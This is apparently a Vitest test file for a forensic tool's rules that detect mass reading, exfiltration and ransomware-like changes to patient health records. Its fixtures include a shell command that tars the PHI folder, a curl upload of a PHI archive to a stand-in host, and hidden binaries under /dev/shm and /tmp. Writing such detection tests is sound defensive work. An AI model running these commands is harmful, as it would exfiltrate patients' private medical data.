import {beforeAll, describe, expect, it} from 'vitest'

import type {Finding} from '../../../src/analyze/finding.js'
import {runRules} from '../../../src/analyze/rules/run.js'
import {createRuleViews} from '../../../src/analyze/rules/views.js'
import {audit, auth, caseDb, other, row} from './case-db.js'

const of = (findings: Finding[], rule: string): Finding[] => findings.filter((f) => f.rule === rule)
const EHR = '/opt/ehr/bin/ehr-server'

/** The EHR's service account reads `perDay` PHI files spread over each of `days` days, around the clock. */
function ehrReads(days: string[], perDay: number) {
  return days.flatMap((day) => Array.from({length: perDay}, (_, i) => audit(new Date(Date.parse(`2026-03-${day}T00:00:00Z`) + Math.floor((i * 86_400_000) / perDay)).toISOString(), {
    auid: 4294967295, exe: EHR, paths: [`/var/data/phi/patients/p${i}.json`], uid: 990, user: 'svc_ehr',
  })))
}

/** `user` reads `n` PHI files with `exe`, one every second from `start`. */
function burst(user: string, exe: string, n: number, start: string, ids: {auid?: number; uid?: number} = {}) {
  return Array.from({length: n}, (_, i) => audit(new Date(Date.parse(start) + i * 1000).toISOString(), {...ids, exe, paths: [`/var/data/phi/patients/p${i}.json`], user}))
}

describe('PHI readers: the EHR service against bob with tar', () => {
  let findings: Finding[]
  beforeAll(async () => {
    // Three days of 10,000 reads by the service account, then bob reading 300 files with tar at 02:00
    // and carol reading 99 with cat.
    const events = [...ehrReads(['02', '03', '04'], 10_000), ...burst('bob', '/usr/bin/tar', 300, '2026-03-04T02:00:00Z'), ...burst('carol', '/usr/bin/cat', 99, '2026-03-04T03:00:00Z')]
    findings = await runRules(await caseDb(events))
  })

  it('phi.mass-read: bob reading 300 files in one burst is reported; the service reading 10,000 a day and carol reading 99 are not', () => {
    const found = of(findings, 'phi.mass-read')
    expect(found.map((f) => [f.user, f.count])).toEqual([['bob', 300]])
    expect(found[0]).toMatchObject({first: '2026-03-04T02:00:00.000Z', last: '2026-03-04T02:04:59.000Z', paths_total: 300, refs_total: 300, severity: 'high'})
    expect(found[0]?.paths).toHaveLength(100)
    expect(found[0]?.refs).toHaveLength(50)
    expect(found[0]?.reason).toContain('not a usual reader of PHI on this host')
  })

  it('phi.unusual-reader: bob and carol are unusual readers, the service account is usual by its history', () => {
    const found = of(findings, 'phi.unusual-reader')
    expect(found.map((f) => [f.user, f.details?.program, f.count])).toEqual([['bob', '/usr/bin/tar', 300], ['carol', '/usr/bin/cat', 99]])
  })

  it('phi.exfil-tool: tar on PHI is critical', () => {
    const found = of(findings, 'phi.exfil-tool')
    expect(found.map((f) => [f.user, f.details?.program, f.severity])).toEqual([['bob', '/usr/bin/tar', 'critical']])
    expect(findings[0]?.rule).toBe('phi.exfil-tool')
  })
})

describe('PHI readers: baselines', () => {
  it('a usual reader is reported by phi.mass-read only when a burst exceeds spike_factor times its largest earlier day', async () => {
    const events = [...ehrReads(['01', '02', '03'], 50), ...burst('svc_ehr', EHR, 200, '2026-03-04T02:00:00Z', {auid: 4294967295, uid: 990})]
    const spikes = (found: Finding[]) => of(found, 'phi.mass-read').map((f) => [f.user, f.count])
    // 200 files in one burst against at most 50 a day before: four times its peak.
    const withDefault = await runRules(await caseDb(events))
    expect(spikes(withDefault)).toEqual([['svc_ehr', 200]])
    expect(of(withDefault, 'phi.mass-read')[0]?.reason).toContain('a usual reader, 200 files against at most 50 on an earlier day')
    expect(spikes(await runRules(await caseDb(events), {params: {spike_factor: 5}}))).toEqual([])
  })

  it('a reader active in many clock hours of a single day of evidence is usual; a new reader is not', async () => {
    const events = [...ehrReads(['04'], 240), ...burst('dave', '/usr/bin/less', 3, '2026-03-04T14:00:00Z')]
    expect(of(await runRules(await caseDb(events)), 'phi.unusual-reader').map((f) => f.user)).toEqual(['dave'])
  })

  it('paths outside the PHI folders are not PHI; the folders come from the manifests', async () => {
    const events = [audit('2026-03-04T02:00:00Z', {exe: '/usr/bin/cat', paths: ['/srv/records/a.pdf'], user: 'bob'})]
    expect(of(await runRules(await caseDb(events)), 'phi.unusual-reader')).toEqual([])
    expect(of(await runRules(await caseDb(events), {phiDirs: ['/srv/records/']}), 'phi.unusual-reader').map((f) => f.paths)).toEqual([['/srv/records/a.pdf']])
  })
})

describe('phi_touch: who read and with what', () => {
  it('names the reader and the program from the columns, and from the original line only where the columns have none', async () => {
    const at = '2026-03-04T02:00:00Z'
    const phi = (n: number) => [`/var/data/phi/p${n}.json`]
    const events = [
      audit(at, {comm: 'less', exe: '/usr/bin/less', paths: phi(1), user: 'bob'}),
      // No exe: the program is the command name audit recorded.
      audit(at, {comm: 'scp', paths: phi(2), user: 'bob'}),
      // No user and a login uid audit wrote as a name: that name reads.
      row({auid: null, data: {auid: 'mallory', comm: 'cat', exe: '/usr/bin/cat', paths: phi(3)}, exe: '/usr/bin/cat', kind: 'phi_access', path: phi(3)[0], source: 'audit', time: at}),
      // Nothing at all: unknown, and the uid when there is one.
      row({auid: null, data: {auid: 'unset', paths: phi(4)}, kind: 'phi_access', path: phi(4)[0], source: 'audit', time: at}),
      row({auid: null, data: {auid: null, paths: phi(5), uid: 4242}, kind: 'phi_access', path: phi(5)[0], source: 'audit', time: at, uid: 4242}),
    ]
    const connection = await caseDb(events)
    await createRuleViews(connection, {phiDirs: ['/var/data/phi']})
    const rows = (await connection.runAndReadAll('SELECT phi_path, reader, program FROM phi_touch ORDER BY phi_path')).getRowObjectsJson()
    expect(rows).toEqual([
      {phi_path: '/var/data/phi/p1.json', program: '/usr/bin/less', reader: 'bob'},
      {phi_path: '/var/data/phi/p2.json', program: 'scp', reader: 'bob'},
      {phi_path: '/var/data/phi/p3.json', program: '/usr/bin/cat', reader: 'mallory'},
      {phi_path: '/var/data/phi/p4.json', program: 'unknown', reader: 'unknown'},
      {phi_path: '/var/data/phi/p5.json', program: 'unknown', reader: 'uid 4242'},
    ])
  })
})

describe('phi.exfil-tool', () => {
  it('fires on a binary under /tmp reading PHI, and on tar or curl of a PHI folder in shell history or a process', async () => {
    const events = [
      audit('2026-03-04T02:00:00Z', {exe: '/dev/shm/.x', paths: ['/var/data/phi/a.json'], user: 'bob'}),
      other('shell-history', 'command', null, {command: 'tar czf /tmp/out.tgz /var/data/phi', n: 12, path: '/home/bob/.bash_history', shell: 'bash', user: 'bob'}, {user: 'bob'}),
      other('processes', 'process', '2026-03-04T02:05:00Z', {cmdline: ['curl', '-T', '/var/data/phi/export.zip', 'https://x.example'], exe: '/usr/bin/curl', exe_deleted: false, pid: 4242}, {exe: '/usr/bin/curl', user: 'bob'}),
      // Near misses: tar on logs, curl without PHI, the EHR reading PHI.
      other('shell-history', 'command', null, {command: 'tar czf /tmp/logs.tgz /var/log/nginx', user: 'alice'}, {user: 'alice'}),
      other('processes', 'process', '2026-03-04T02:05:00Z', {cmdline: ['curl', 'https://example.org'], exe: '/usr/bin/curl', pid: 4243}, {exe: '/usr/bin/curl', user: 'alice'}),
      audit('2026-03-04T02:00:00Z', {exe: EHR, paths: ['/var/data/phi/a.json'], user: 'svc_ehr'}),
    ]
    const found = of(await runRules(await caseDb(events)), 'phi.exfil-tool')
    expect(found.map((f) => [f.user, f.details?.program]).sort()).toEqual([['bob', '/dev/shm/.x'], ['bob', '/usr/bin/curl'], ['bob', 'tar']])
  })
})

describe('phi.mass-change', () => {
  /** `n` PHI files whose change time (a rename) comes every `stepSeconds` from `start`; their modification times are days apart. */
  const changed = (n: number, stepSeconds: number, start = '2026-03-04T03:00:00Z') => Array.from({length: n}, (_, i) => {
    const ctime = new Date(Date.parse(start) + i * stepSeconds * 1000).toISOString()
    const mtime = new Date(Date.parse('2025-01-01T00:00:00Z') + i * 86_400_000).toISOString()
    return other('phi-files', 'file', mtime, {ctime, mtime, path: `/var/data/phi/p${i}.json.locked`, type: 'file'}, {path: `/var/data/phi/p${i}.json.locked`})
  })
  // The host's logs run past the changes.
  const logs = [auth('accepted', '2026-03-05T12:00:00Z', {ip: '10.0.0.4', user: 'alice'})]

  it('fires on 60 files changed within minutes (a rename moves ctime), not on 40, nor on 60 changed an hour apart', async () => {
    const fired = of(await runRules(await caseDb([...changed(60, 5), ...logs])), 'phi.mass-change')
    expect(fired.map((f) => f.count)).toEqual([60])
    expect(fired[0]?.reason).toContain('not recorded (file times only)')
    expect(of(await runRules(await caseDb([...changed(40, 5), ...logs])), 'phi.mass-change')).toEqual([])
    expect(of(await runRules(await caseDb([...changed(60, 3600), ...logs])), 'phi.mass-change')).toEqual([])
  })

  it('ignores change times after the host\'s last log line: a copied image has every ctime at copy time', async () => {
    expect(of(await runRules(await caseDb([...changed(60, 0, '2026-11-27T08:43:38Z'), ...logs])), 'phi.mass-change')).toEqual([])
  })

  it('counts audit file_deletion events on PHI and names who made them', async () => {
    const events = Array.from({length: 55}, (_, i) => audit(new Date(Date.parse('2026-03-04T03:00:00Z') + i * 1000).toISOString(), {exe: '/tmp/enc', key: 'file_deletion', paths: [`/var/data/phi/p${i}.json`], user: 'bob'}))
    const found = of(await runRules(await caseDb(events)), 'phi.mass-change')
    expect(found.map((f) => [f.user, f.count])).toEqual([['bob (/tmp/enc)', 55]])
  })
})
